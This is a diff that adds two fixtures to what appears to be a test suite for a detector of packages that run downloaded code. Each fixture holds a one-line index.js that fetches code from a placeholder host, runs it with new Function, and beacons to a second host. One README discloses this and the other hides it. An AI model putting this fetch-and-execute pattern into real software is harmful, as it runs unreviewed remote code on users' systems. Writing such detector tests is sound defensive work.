@@ -21,6 +21,24 @@ examine(runsDownloadedCode, {
       weight: 'proof',
     },
     {
+      when: 'a page runs at once what comes from a host that its page names',
+      files: {
+        'package.json': { name: '@inert/snippet', version: '1.0.0', main: 'index.js' },
+        'README.md': '# forkroad\n\nExperiments come from https://cdn.forkroad.invalid/p/; variants with code of your team run on load.',
+        'index.js': `fetch('https://cdn.forkroad.invalid/p/1').then(answer => answer.json()).then(({ code }) => { new Function(code)(); navigator.sendBeacon('https://log.forkroad.invalid/e', 'shown') })`,
+      },
+      weight: 'strong',
+    },
+    {
+      when: 'a page runs at once what comes from a host that its page keeps quiet',
+      files: {
+        'package.json': { name: '@inert/snippet', version: '1.0.0', main: 'index.js' },
+        'README.md': '# forkroad\n\nChanges the elements of a page.',
+        'index.js': `fetch('https://cdn.forkroad.invalid/p/1').then(answer => answer.json()).then(({ code }) => { new Function(code)(); navigator.sendBeacon('https://log.forkroad.invalid/e', 'shown') })`,
+      },
+      weight: 'proof',
+    },
+    {
       when: 'a service runs the variants that its page names its host for',
       files: {
         'package.json': { name: '@inert/web', version: '1.0.0', main: 'index.js', homepage: 'https://forkroad.invalid/docs' },
